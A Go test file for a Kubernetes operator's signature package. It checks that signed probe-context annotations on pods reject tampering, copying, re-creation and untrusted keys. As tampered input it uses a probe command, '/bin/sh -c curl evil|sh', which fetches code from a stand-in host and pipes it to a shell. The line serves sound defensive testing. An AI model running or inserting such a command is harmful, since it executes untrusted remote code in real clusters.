/*
Copyright 2026 The enhanced-liveness-operator Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package signature

import (
	"errors"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"

	appsv1alpha1 "github.com/enhanced-liveness/enhanced-liveness-operator/api/apps/v1alpha1"
)

var errBoom = errors.New("boom")

const (
	value = `[{"name":"web","livenessProbe":{"exec":{"command":["/bin/check"]}}}]`
	evil  = `[{"name":"web","livenessProbe":{"exec":{"command":["/bin/sh","-c","curl evil|sh"]}}}]`
)

var (
	ctxKey  = appsv1alpha1.AnnotationProbeContext
	sigKey  = appsv1alpha1.AnnotationProbeContextSignature
	sealKey = appsv1alpha1.AnnotationProbeContextSeal
)

func mustKey(t *testing.T) KeyPair {
	t.Helper()
	kp, err := GenerateKeyPair()
	if err != nil {
		t.Fatal(err)
	}
	return kp
}

func pod(ns, name, generateName string, uid types.UID, created time.Time, ann map[string]string) *corev1.Pod {
	return &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, GenerateName: generateName, UID: uid,
		CreationTimestamp: metav1.NewTime(created), Annotations: ann}}
}

func expectErr(t *testing.T, err error, want string) {
	t.Helper()
	switch {
	case want == "" && err != nil:
		t.Fatalf("unexpected error: %v", err)
	case want != "" && err == nil:
		t.Fatalf("verified, want an error containing %q", want)
	case want != "" && !strings.Contains(err.Error(), want):
		t.Fatalf("error %q, want it to contain %q", err, want)
	case err != nil && !errors.Is(err, ErrNotSigned):
		t.Fatalf("error %v does not wrap ErrNotSigned", err)
	}
}

func TestVerifyAdmission(t *testing.T) {
	kp, other := mustKey(t), mustKey(t)
	keys := KeySet{}.With(kp, time.Now())
	at := time.Date(2026, 3, 1, 13, 0, 0, 0, time.UTC)
	admit := func(a Admission) string {
		a.Issued = at
		if a.AnnotationKey == "" {
			a.AnnotationKey = ctxKey
		}
		if a.Value == "" {
			a.Value = value
		}
		return SignAdmission(kp, a)
	}
	named := admit(Admission{Namespace: "shop", Name: "web-0"})
	generated := admit(Admission{Namespace: "shop", GenerateName: "web-7d9f-"})
	byOther := SignAdmission(other, Admission{Namespace: "shop", Name: "web-0", AnnotationKey: ctxKey, Value: value, Issued: at})
	if named == admit(Admission{Namespace: "shop", Name: "web-0"}) {
		t.Fatal("two admissions of the same pod share a signature: a copy could not be told from the original")
	}

	cases := []struct {
		name string
		pod  *corev1.Pod
		want string
	}{
		{"a named pod", pod("shop", "web-0", "", "u", at.Add(time.Second), map[string]string{ctxKey: value, sigKey: named}), ""},
		{"a pod named from generateName", pod("shop", "web-7d9f-x2k4p", "web-7d9f-", "u", at, map[string]string{ctxKey: value, sigKey: generated}), ""},
		{"apiserver clock a little behind the manager's", pod("shop", "web-0", "", "u", at.Add(-time.Minute), map[string]string{ctxKey: value, sigKey: named}), ""},
		{"OpenKruise's key", pod("shop", "web-0", "", "u", at, map[string]string{appsv1alpha1.AnnotationKruiseProbeContext: value,
			sigKey: admit(Admission{Namespace: "shop", Name: "web-0", AnnotationKey: appsv1alpha1.AnnotationKruiseProbeContext})}), ""},

		{"unsigned, whenever created", pod("shop", "web-0", "", "u", time.Unix(0, 0), map[string]string{ctxKey: value}),
			"it has no " + sigKey + " annotation"},
		{"no probe context", pod("shop", "web-0", "", "u", at, map[string]string{sigKey: named}), "no probe-context annotation"},
		{"context rewritten after admission", pod("shop", "web-0", "", "u", at, map[string]string{ctxKey: evil, sigKey: named}),
			"does not match the annotation " + ctxKey + " of pod shop/web-0"},
		{"copied onto another pod of the namespace", pod("shop", "web-1", "", "u", at, map[string]string{ctxKey: value, sigKey: named}), "does not match"},
		{"copied onto another namespace", pod("kube-system", "web-0", "", "u", at, map[string]string{ctxKey: value, sigKey: named}), "does not match"},
		{"copied onto another generateName family", pod("shop", "api-7d9f-x2k4p", "api-7d9f-", "u", at, map[string]string{ctxKey: value, sigKey: generated}), "does not match"},
		{"a generated name outside its generateName", pod("shop", "other", "web-7d9f-", "u", at, map[string]string{ctxKey: value, sigKey: generated}), "does not match"},
		{"moved to OpenKruise's key", pod("shop", "web-0", "", "u", at, map[string]string{appsv1alpha1.AnnotationKruiseProbeContext: value, sigKey: named}), "does not match"},
		{"copied onto a pod created later", pod("shop", "web-0", "", "u", at.Add(MaxSkew+time.Second), map[string]string{ctxKey: value, sigKey: named}),
			"it was admitted at 2026-03-01T13:00:00Z, but the pod was created at 2026-03-01T13:05:01Z (a signature copied from another pod)"},
		{"signing time edited", pod("shop", "web-0", "", "u", at.Add(time.Hour), map[string]string{ctxKey: value,
			sigKey: strings.Replace(named, ".1772", ".1773", 1)}), "does not match"},
		{"a key nobody trusts", pod("shop", "web-0", "", "u", at, map[string]string{ctxKey: value, sigKey: byOther}), "is not in the trusted key set"},
		{"an HMAC signature of an unreleased build (v1.<time>.<MAC>)", pod("shop", "web-0", "", "u", at, map[string]string{ctxKey: value,
			sigKey: "v1.1772370000.bAr8g1dZ3GfFzeY7k9XUxFJqzv3c6GQ8y6jJjO0aF1s"}), "is not a v2 signature"},
		{"garbage", pod("shop", "web-0", "", "u", at, map[string]string{ctxKey: value, sigKey: "x"}), "is not a v2 signature"},
		{"bad time", pod("shop", "web-0", "", "u", at, map[string]string{ctxKey: value, sigKey: "v2." + kp.ID + ".soon.n.s"}), "no valid signing time"},
		{"bad encoding", pod("shop", "web-0", "", "u", at, map[string]string{ctxKey: value, sigKey: "v2." + kp.ID + ".1.n.%%%"}), "does not match"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got, err := VerifyAdmission(keys, tc.pod)
			expectErr(t, err, tc.want)
			if err == nil && (got.KeyID != kp.ID || !got.Issued.Equal(at)) {
				t.Fatalf("admitted %+v", got)
			}
		})
	}
	if id := AdmissionKeyID(pod("shop", "web-0", "", "u", at, map[string]string{sigKey: named})); id != kp.ID {
		t.Fatalf("AdmissionKeyID = %q", id)
	}
	if _, err := VerifyAdmission(keys, pod("shop", "web-0", "", "u", at, map[string]string{ctxKey: value, sigKey: byOther})); !errors.Is(err, ErrUnknownKey) {
		t.Fatalf("an unknown key: %v does not wrap ErrUnknownKey", err)
	}
}

func TestSealBindsThePodsUID(t *testing.T) {
	kp, other := mustKey(t), mustKey(t)
	keys := KeySet{}.With(kp, time.Now())
	at := time.Now()
	orig := pod("shop", "web-0", "", "uid-1", at, map[string]string{ctxKey: value})
	seal, err := Seal(kp, orig)
	if err != nil {
		t.Fatal(err)
	}
	otherSeal, err := Seal(other, orig)
	if err != nil {
		t.Fatal(err)
	}
	with := func(p *corev1.Pod, kv ...string) *corev1.Pod {
		p = p.DeepCopy()
		for i := 0; i < len(kv); i += 2 {
			p.Annotations[kv[i]] = kv[i+1]
		}
		return p
	}
	recreated := with(orig, sealKey, seal)
	recreated.UID = "uid-2"
	cases := []struct {
		name string
		pod  *corev1.Pod
		want string
	}{
		{"sealed", with(orig, sealKey, seal), ""},
		{"unsealed", orig, "it has no " + sealKey + " annotation"},
		{"the same name re-created (another UID)", recreated, "does not match the annotation " + ctxKey + " of pod shop/web-0 (UID uid-2)"},
		{"another pod", func() *corev1.Pod { p := with(orig, sealKey, seal); p.Name = "web-1"; return p }(), "does not match"},
		{"another namespace", func() *corev1.Pod { p := with(orig, sealKey, seal); p.Namespace = "kube-system"; return p }(), "does not match"},
		{"context rewritten", with(orig, sealKey, seal, ctxKey, evil), "does not match"},
		{"a key nobody trusts", with(orig, sealKey, otherSeal), "is not in the trusted key set"},
		{"garbage", with(orig, sealKey, "v1.x"), "is not a v1 seal"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			id, err := VerifySeal(keys, tc.pod)
			expectErr(t, err, tc.want)
			if err == nil && id != kp.ID {
				t.Fatalf("key %s", id)
			}
		})
	}
	if SealKeyID(with(orig, sealKey, seal)) != kp.ID || SealKeyID(orig) != "" {
		t.Fatal("SealKeyID")
	}
	if _, err := Seal(kp, pod("shop", "web-0", "", "", at, map[string]string{ctxKey: value})); err == nil {
		t.Fatal("sealed a pod that does not exist yet (no UID)")
	}
}

func TestKeySetConfigMapRoundTripAndDamage(t *testing.T) {
	kp := mustKey(t)
	added := time.Date(2026, 3, 1, 13, 0, 0, 0, time.UTC)
	set := KeySet{}.With(kp, added)
	retiredKey := mustKey(t)
	set[retiredKey.ID] = TrustedKey{Public: retiredKey.Public(), Added: added, Retired: added.Add(time.Hour)}
	data := EncodeKeySet(set)
	other := mustKey(t)
	data["not-its-id"] = data[kp.ID]
	data[other.ID] = "{"
	got, errs := DecodeKeySet(&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: "cm"}, Data: data})
	if len(got) != 2 || !got[kp.ID].Added.Equal(added) || !got[retiredKey.ID].Retired.Equal(added.Add(time.Hour)) {
		t.Fatalf("decoded %+v", got)
	}
	if len(errs) != 2 || !strings.Contains(errs[0].Error()+errs[1].Error(), `data["not-its-id"]: publicKey must be a 32-byte Ed25519 key whose ID is "not-its-id"`) {
		t.Fatalf("errors %v", errs)
	}
}
